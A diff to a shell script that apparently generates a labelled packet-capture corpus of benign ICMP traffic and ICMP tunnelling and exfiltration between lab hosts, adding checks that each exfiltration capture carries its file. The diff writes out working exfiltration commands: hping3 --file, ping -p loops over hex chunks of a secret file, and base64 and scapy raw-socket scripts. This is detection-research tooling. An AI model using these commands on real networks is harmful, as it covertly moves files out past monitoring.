@@ -173,6 +173,12 @@ verify_same() {  # verify_same WHAT EXPECTED ACTUAL
     else log "  FAILED: $1 differs ($(stat -c %s "$3" 2>/dev/null) of $(stat -c %s "$2") bytes)"; fi
 }
 
+verify_recover() {  # verify_recover MODE NAME FILE: the capture carries FILE as MODE lays it out
+    local r
+    if r=$($PY "$TOOLS/recover.py" "$1" "$OUT/$2.pcap" "$3" 2>&1); then log "  verified: $r"
+    else log "  FAILED: $r"; fi
+}
+
 # ---------------------------------------------------------------------------- data
 mkdata() {
     D=$WORK/data; mkdir -p "$D" "$WORK/www"
@@ -193,7 +199,7 @@ EOF
     cp "$D"/rand*.bin "$D/gpl.txt" "$WORK/www/"
 }
 
-http_server() { bg B $PY -m http.server 8000 --bind :: --directory "$WORK/www"; sleep 1; }
+http_server() { rm -f "$WORK/got"; bg B $PY -m http.server 8000 --bind :: --directory "$WORK/www"; sleep 1; }
 
 # ---------------------------------------------------------------------------- benign
 ping4_variant() {  # ping4_variant NAME NOTE PING-ARGS...
@@ -482,10 +488,9 @@ tun_icmptx() {
     A ip addr add 10.250.0.2/24 dev tun0; A ip link set tun0 up
     echo "  [A,B] ip addr add 10.250.0.2/24 (A), 10.250.0.1/24 (B) dev tun0; ip link set tun0 up" >>"$LOG"
     sleep 1
-    on A ping -c 3 -i 0.3 10.250.0.1
     on A curl -s -m 60 -o "$WORK/got" http://10.250.0.1:8000/rand16000.bin
     verify_same "rand16000.bin through icmptx" "$WORK/www/rand16000.bin" "$WORK/got"
-    label ipv4 "$A4" "$B4" tunnel "icmptx: IP packets in echo payloads; a ping and a 16,000-byte HTTP download through tun0"
+    label ipv4 "$A4" "$B4" tunnel "icmptx: IP packets in echo payloads; a 16,000-byte HTTP download through tun0"
     cap_stop 400
 }
 
@@ -515,6 +520,7 @@ exf_hping() {  # exf_hping NAME FILE SIZE COUNT NOTE
     on A hping3 --icmp --file "$2" -d "$3" -c "$4" -i u50000 "$B4"
     label ipv4 "$A4" "$B4" exfil "$5"
     cap_stop
+    verify_recover stream "$1" "$2"
 }
 
 exf_hpings() {
@@ -531,12 +537,14 @@ exf_ping_p() {
     xxd -p -c 16 "$D/secret.txt" | while read -r hex; do A ping -c 1 -W 1 -p "$hex" "$B4" >/dev/null; done
     label ipv4 "$A4" "$B4" exfil "ping -p: a file's 16-byte chunks, one ping process (identifier) per chunk"
     cap_stop
+    verify_recover pattern exf-ping-p-chunks "$D/secret.txt"
     net_up 192.168.150 192.168.151 192.168.159 fd15
     cap_start exf-ping6-p-chunks
     echo "  [A] xxd -p -c 16 secret.txt | while read hex; do ping -6 -c 1 -s 32 -p \$hex $B6; done" >>"$LOG"
     xxd -p -c 16 "$D/secret.txt" | while read -r hex; do A ping -6 -c 1 -W 1 -s 32 -p "$hex" "$B6" >/dev/null; done
     label ipv6 "$A6" "$B6" exfil "ping -6 -s 32 -p: 16-byte chunks, one ping process per chunk"
     cap_stop
+    verify_recover pattern exf-ping6-p-chunks "$D/secret.txt"
 }
 
 exf_scripts() {
@@ -545,16 +553,19 @@ exf_scripts() {
     on A $PY "$TOOLS/b64-exfil.py" --chunk 32 --delay 0.1 "$B4" "$D/secret.txt"
     label ipv4 "$A4" "$B4" exfil "own python raw-socket script: base64 text, 32 characters per request, identifier 0, 1, 2, ..."
     cap_stop
+    verify_recover b64 exf-py-b64-idseq "$D/secret.txt"
     net_up 10.70.3 10.70.4 10.70.9 fd70
     cap_start exf-scapy-gzip
     on A $PY "$TOOLS/scapy-exfil.py" --chunk 48 --delay 0.05 "$B4" "$D/gpl.txt.gz" 
     label ipv4 "$A4" "$B4" exfil "own scapy script: gzip data, 48 bytes per request, one identifier, sequence 1, 2, ..."
-    cap_stop 200
+    cap_stop
+    verify_recover stream exf-scapy-gzip "$D/gpl.txt.gz"
     net_up 10.70.3 10.70.4 10.70.9 fd70
     cap_start exf-py-b64-ipv6
     on A $PY "$TOOLS/b64-exfil.py" -6 --chunk 48 --delay 0.1 "$B6" "$D/secret.txt"
     label ipv6 "$A6" "$B6" exfil "own python raw-socket script over ICMPv6: base64 text, identifier per request"
     cap_stop
+    verify_recover b64 exf-py-b64-ipv6 "$D/secret.txt"
 }
 
 corpus_captures=(ben_ping4 ben_ping6 ben_nohost ben_lossy ben_loop ben_sweep ben_busybox ben_fping ben_trace
